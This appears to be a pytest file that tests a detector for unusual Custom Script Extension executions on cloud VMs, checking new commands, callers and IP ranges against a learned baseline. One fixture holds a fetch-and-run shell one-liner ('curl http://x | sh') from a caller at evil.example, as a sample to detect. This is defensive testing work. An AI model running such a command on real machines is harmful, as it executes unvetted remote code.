"""VM_CustomScriptExtensionUnusualExecution: a CSE whose command, caller and range deviate."""

from __future__ import annotations

from datetime import timedelta

from tests.activity.builders import T0, extension_write, routine, vm
from tests.activity.conftest import Ingest, types

AFTER = T0 + timedelta(days=14, hours=2)
ROUTINE = {"commandToExecute": "sh configure.sh", "fileUris": ["https://acct.blob.core.windows.net/c/configure.sh"]}


async def test_a_new_command_by_a_new_caller_from_a_new_range_is_unusual(run: Ingest):
    await run(routine(14))
    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="mallory@evil.example", ip="198.51.100.7",
                                        settings={"commandToExecute": "sh -c 'curl http://x | sh'"})])
    assert types(report.alerts) == ["VM_CustomScriptExtensionUnusualExecution"]
    assert any("not run on this subscription" in e for e in report.alerts[0].evidence)


async def test_the_pipeline_running_its_usual_command_is_routine(run: Ingest):
    await run(routine(14))
    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="pipeline-app", ip="20.50.1.1",
                                        settings=ROUTINE)])
    assert report.alerts == []


async def test_a_new_admin_running_the_usual_command_from_a_known_range_is_routine(run: Ingest):
    await run(routine(14))
    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="newadmin@contoso.com", ip="20.50.3.3",
                                        settings=ROUTINE)])
    assert report.alerts == []


async def test_nothing_while_learning(run: Ingest):
    await run(routine(3))
    report = await run([extension_write(vm("vm-05"), "cse", T0 + timedelta(days=3, hours=2),
                                        caller="mallory@evil.example", ip="198.51.100.7",
                                        settings={"commandToExecute": "sh evil.sh"})])
    assert report.alerts == []


async def test_a_new_pipeline_with_its_own_command_from_the_automation_range_is_routine(run: Ingest):
    await run(routine(14))
    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="release-app-2", ip="20.50.7.7",
                                        settings={"commandToExecute": "sh release-2.sh"})])
    assert report.alerts == []


async def test_known_credentials_from_a_new_range_running_a_new_command_are_unusual(run: Ingest):
    await run(routine(14))
    report = await run([extension_write(vm("vm-05"), "cse", AFTER, caller="pipeline-app", ip="198.51.100.7",
                                        settings={"commandToExecute": "sh other.sh"})])
    assert types(report.alerts) == ["VM_CustomScriptExtensionUnusualExecution"]
